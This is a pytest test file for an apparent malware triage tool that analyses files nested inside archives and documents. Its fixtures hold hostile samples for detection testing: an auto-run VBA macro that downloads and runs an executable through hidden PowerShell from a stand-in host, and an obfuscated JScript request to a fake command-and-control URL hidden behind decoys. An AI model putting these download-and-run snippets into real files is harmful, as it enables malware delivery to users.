"""The files inside a sample, and inside those: a tree with one budget."""

from __future__ import annotations

import asyncio
import gzip

import pytest

from athena_lab.api import ChildOptions, TriageOptions
from athena_lab.report import Report
from athena_lab.report.tree import walk
from tests import documents
from tests.documents import EICAR, PLAIN, zipped


def by_name(report: Report) -> dict[str, str]:
    return {node.name: node.status for _, node in walk(report.children)}


async def test_files_inside_are_analysed_as_a_tree(lab):
    report = await lab.triage(zipped(inner=zipped(eicar=EICAR), plain=PLAIN))
    nodes = {node.name: (depth, node) for depth, node in walk(report.children)}
    assert {name: depth for name, (depth, _) in nodes.items()} == {"inner": 0, "eicar": 1, "plain": 0}
    eicar, inner = nodes["eicar"][1], nodes["inner"][1]
    assert (eicar.level, eicar.score, eicar.worst[0].id) == ("suspicious", 55, "file-processor/eicar")
    assert (nodes["plain"][1].level, nodes["plain"][1].score) == ("clean-looking", 0)
    assert inner.score == eicar.score == report.conclusion.score  # as bad as what is in it, and no worse
    titles = {finding.id: finding.title for finding in report.findings}
    assert titles["analysis-engine/child-suspicious"] == f"A file inside is suspicious: {eicar.worst[0].title}"
    assert Report.from_json(report.to_json()).children == report.children
    again = await lab.triage(await lab.sample(eicar.sha256))
    assert again.verdict.level == eicar.level


async def test_what_files_inside_lead_to_is_told_by_the_whole(lab):
    """In whatever an archive or a message packs it: its own bytes do not show it."""
    pytest.importorskip("pandas")
    url = "http://hidden-in-the-archive.biz/stage2.php"
    message = f"Subject: hello\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nOpen {url} now."
    report = await lab.triage(zipped(note=zipped(mail=message.encode())))
    assert [lead.value for _, node in walk(report.children) for lead in node.leads if lead.kind == "url"] == [url]
    frame = report.to_dataframe("indicators")
    assert frame[frame["kind"] == "url"][["value", "source", "count"]].to_numpy().tolist() == [[url, "file mail", 1]]
    assert "leads to hxxp[://]hidden-in-the-archive[.]biz/stage2.php" in str(report)
    assert Report.from_json(report.to_json()).children == report.children


async def test_decoys_do_not_hide_where_a_file_inside_leads_to(lab):
    """What a script asks for in its run is told before what only stands in its bytes."""
    decoys = "".join(f"// http://decoy-{number}.biz/{number}\n" for number in range(60))
    script = f"""{decoys}var x = new ActiveXObject("MSXML2.XMLHTTP");
        x.open("GET", ["ht", "tp://", "real-c2", "-host.net/a?", Array(700).join("b")].join(""), false); x.send();"""
    (node,) = (await lab.triage(zipped(**{"a.js": script.encode()}))).children
    assert node.leads[0].value.startswith("http://real-c2-host.net/a?bbb")
    assert (len(node.leads), node.leads_left_out > 20) == (32, True)


async def test_the_source_of_macros_is_run_and_undone_like_any_script(lab):
    """It is packed in a document, and would only be read there."""
    macro = """Sub AutoOpen()
      Dim shell: Set shell = CreateObject(StrReverse("llehS.tpircSW"))
      shell.Run "powershell -w hidden iwr " & Chr(104) & "ttp://macro-" & "stage.biz/a.exe -OutFile a.exe", 0
    End Sub
    """
    report = await lab.triage(documents.compound({"VBA": b"", "Module1": documents.vba_module(macro)}))
    (node,) = [node for node in report.children if node.kind == "source"]
    assert "http://macro-stage.biz/a.exe" in [lead.value for lead in node.leads]
    assert node.level in {"suspicious", "malicious-looking"}
    assert any(finding.id.startswith("sandbox/") for finding in node.worst)


async def test_the_same_bytes_are_analysed_once(lab):
    inner = zipped(one=EICAR, two=EICAR)
    report = await lab.triage(zipped(first=inner, second=inner, third=EICAR))
    assert sorted(by_name(report).values()) == ["analysed", "analysed", "seen", "seen", "seen"]


async def test_a_verdict_does_not_depend_on_where_in_the_tree_a_file_lies(lab):
    """Bytes that come again are not analysed again, and say as much of what they are in as they did."""
    inner = zipped(eicar=EICAR)
    alone = await lab.triage(inner)
    report = await lab.triage(zipped(eicar=EICAR, inner=inner, more=EICAR))
    nodes = [(node.name, node.status, node.level, node.score) for _, node in walk(report.children)]
    assert nodes == [
        ("eicar", "analysed", "suspicious", 55),
        ("inner", "analysed", alone.verdict.level, alone.conclusion.score),
        ("eicar", "seen", "suspicious", 55),
        ("more", "seen", "suspicious", 55),
    ]
    told = [finding.detail for finding in report.findings if "child-suspicious" in finding.id]
    assert sum("eicar (" in detail or "more (" in detail for detail in told) == 1
    assert "    eicar: suspicious (55), seen: The same bytes are elsewhere in the tree." in str(report)


async def test_a_script_that_copies_itself_is_not_told_as_a_file_of_its_own(lab):
    script = b"new ActiveXObject('Scripting.FileSystemObject').CopyFile(WScript.ScriptFullName, 'C:\\\\a.js');"
    (copy,) = (await lab.triage(await lab.add(script, "a.js"))).children
    assert (copy.status, copy.reason) == ("seen", "It is the sample itself.")


@pytest.mark.parametrize(
    ("children", "statuses"),
    [
        (ChildOptions(depth=0), []),
        (ChildOptions(depth=1), ["analysed", "analysed"]),
        (ChildOptions(count=1), ["analysed", "left-out"]),
        (ChildOptions(count=0), ["left-out", "left-out"]),
        (ChildOptions(seconds=0), ["left-out", "left-out"]),
        (ChildOptions(total_bytes=len(PLAIN)), ["analysed", "left-out"]),
    ],
)
async def test_the_whole_tree_has_one_budget(lab, children, statuses):
    report = await lab.triage(zipped(big=PLAIN * 9, small=PLAIN), options=TriageOptions(children=children))
    assert sorted(by_name(report).values()) == statuses
    assert all(node.reason for _, node in walk(report.children) if node.status == "left-out")


async def test_pictures_and_what_is_empty_take_none_of_the_budget(lab):
    report = await lab.triage(
        zipped(picture=b"\x89PNG\r\n\x1a\n" + bytes(60), empty=b"", text=PLAIN),
        options=TriageOptions(children=ChildOptions(count=1)),
    )
    assert by_name(report) == {"picture": "left-out", "empty": "left-out", "text": "analysed"}


async def test_programs_come_before_texts(lab, launchers):
    files = {f"text{index}": PLAIN + bytes([index]) for index in range(5)}
    sample = zipped(**files, program=launchers[0].read_bytes())
    report = await lab.triage(sample, options=TriageOptions(children=ChildOptions(count=1)))
    assert by_name(report)["program"] == "analysed"
    assert [node.status for _, node in walk(report.children)].count("analysed") == 1


async def test_rows_without_an_analysis_hide_no_program(lab, launchers, monkeypatch):
    monkeypatch.setattr("athena_lab.descent.MAX_ASIDE", 7)
    pictures = {f"picture{index}": b"\x89PNG\r\n\x1a\n" + bytes([index]) * 60 for index in range(9)}
    report = await lab.triage(zipped(**pictures, program=launchers[0].read_bytes()))
    assert by_name(report)["program"] == "analysed"
    assert len(report.children) == 8


@pytest.mark.parametrize("inner", ["picture", "text"])
async def test_nor_do_those_of_an_archive_before_it(lab, launchers, monkeypatch, inner):
    monkeypatch.setattr("athena_lab.descent.MAX_ASIDE", 4)
    monkeypatch.setattr("athena_lab.descent.MAX_MISSED", 4)
    head = b"\x89PNG\r\n\x1a\n" if inner == "picture" else PLAIN
    wide = zipped(**{f"{inner}{index}": head + bytes([index]) * 60 for index in range(9)})
    options = TriageOptions(children=ChildOptions(depth=1))
    report = await lab.triage(zipped(a=wide, program=launchers[0].read_bytes()), options=options)
    assert by_name(report)["program"] == "analysed"
    assert len(list(walk(report.children))) == 6


async def test_what_the_budget_leaves_out_is_told_in_the_verdict(lab):
    few = TriageOptions(children=ChildOptions(count=1))
    report = await lab.triage(zipped(one=PLAIN, two=PLAIN * 2, three=PLAIN * 3), options=few)
    assert report.verdict.sentence.endswith("Not everything was analysed: 2 files inside were left out.")
    deep = await lab.triage(zipped(a=zipped(b=zipped(c=zipped(d=zipped(e=zipped(f=PLAIN)))))))
    assert deep.verdict.sentence.endswith("Not everything was analysed: 1 file inside was left out.")
    whole = await lab.triage(zipped(one=PLAIN, two=PLAIN))
    assert "Not everything" not in whole.verdict.sentence


async def test_a_module_that_fails_on_a_file_inside_is_told_in_the_verdict(lab):
    hang = b"Array(200001).join('ab').match(/[ab]*c/);"
    report = await lab.triage(zipped(**{"a.js": hang}), options=TriageOptions(children=ChildOptions(seconds=2.0)))
    (node,) = report.children
    assert (node.status, node.reason) == ("analysed", "in part: sandbox failed; a script was not run to its end")
    assert report.verdict.sentence.endswith("Not everything was analysed: 1 file inside only in part.")
    assert "in part: sandbox failed" in report.to_text()


async def test_a_script_that_is_not_run_to_its_end_is_told_in_the_verdict(lab):
    nested = b"try { var s = '1'; for (var i = 0; i < 120; i++) s = '[' + s + ']'; eval(s) } catch (e) {}"
    report = await lab.triage(await lab.add(nested, "a.js"))
    assert "Not everything was analysed: a script was not run to its end" in report.verdict.sentence
    report = await lab.triage(zipped(**{"a.js": nested, "b.js": b"WScript.Echo(1)"}))
    reasons = {node.name: node.reason for node in report.children}
    assert reasons == {"a.js": "in part: a script was not run to its end", "b.js": ""}
    assert report.verdict.sentence.endswith("inside only in part.")
    large = await lab.triage(await lab.add(b"//" + b"x" * (16 << 20) + b"\nWScript.Echo(1)", "a.js"))
    assert "not all scripts were run; not all layers were undone" in large.verdict.sentence


async def test_rules_of_a_session_are_matched_with_the_files_inside(lab):
    rules = await lab.compile_rules(sources='rule mine { strings: $a = "says nothing" condition: $a }')
    report = await lab.triage(zipped(text=PLAIN), options=TriageOptions(sessions=(rules.session,)))
    assert "mine" not in {match.rule for match in report.patterns.matches}
    (node,) = report.children
    assert [finding.id for finding in node.worst if "mine" in finding.id]


async def test_a_module_that_gives_out_other_bytes_than_it_lists_is_not_believed(lab, monkeypatch):
    innocent = await lab.add(PLAIN)

    async def another(*_args):
        return innocent

    monkeypatch.setattr(lab._triager, "_take_out", another)  # no module of ours does it
    (node,) = (await lab.triage(zipped(eicar=EICAR))).children
    assert (node.status, node.level) == ("failed", "unknown")


async def test_what_was_listed_falsely_once_is_analysed_where_it_really_is(lab, monkeypatch):
    innocent, take_out = await lab.add(PLAIN), lab._triager._take_out
    given = iter([innocent])

    async def falsely_at_first(*args):
        return next(given, None) or await take_out(*args)

    monkeypatch.setattr(lab._triager, "_take_out", falsely_at_first)  # no module of ours does it
    first, second = (await lab.triage(zipped(one=EICAR, two=EICAR))).children
    assert (first.status, second.status, second.level) == ("failed", "analysed", "suspicious")


async def test_taking_a_file_out_has_one_deadline_for_all_its_parts(lab, monkeypatch):
    async def slowly(*_args, **_options):
        await asyncio.sleep(30)

    monkeypatch.setattr(lab._triager, "extract", slowly)
    options = TriageOptions(children=ChildOptions(seconds=1.0))
    (node,) = (await lab.triage(zipped(eicar=EICAR), options=options)).children
    assert (node.status, "not taken out within 1 s" in node.reason) == ("failed", True)


async def test_a_chain_of_packers_ends_at_the_depth_that_is_asked_for(lab):
    sample = EICAR
    for _ in range(6):
        sample = gzip.compress(sample, mtime=0)
    report = await lab.triage(sample, options=TriageOptions(children=ChildOptions(depth=3)))
    told = [(depth, node.status, node.reason) for depth, node in walk(report.children)]
    assert told == [*((depth, "analysed", "") for depth in range(3)), (3, "left-out", "More than 3 levels deep.")]


async def test_quick_looks_do_not_go_inside(lab):
    for analysis_type in ("quick", "pattern"):
        report = await lab.triage(zipped(eicar=EICAR), analysis_type=analysis_type)
        assert report.children == ()


async def test_what_a_document_does_is_what_its_macros_do(lab):
    macro = 'Sub AutoOpen()\r\nDim s As Object\r\nShell "cmd /c " & StrReverse("clac")\r\nEnd Sub\r\n'
    document = documents.compound({"VBA": b"", "Module1": documents.vba_module(macro)})
    report = await lab.triage(zipped(invoice=document), analysis_type="behavior")
    (invoice,) = report.children
    (source,) = invoice.children
    assert any("sandbox/" in finding.id for finding in source.worst)


async def test_the_children_of_a_report_stay_as_they_were_asked_for(lab):
    sample = await lab.add(zipped(eicar=EICAR))
    without = await lab.triage(sample, options=TriageOptions(children=ChildOptions(depth=0)))
    assert (without.children, len((await lab.triage(sample)).children)) == ((), 1)
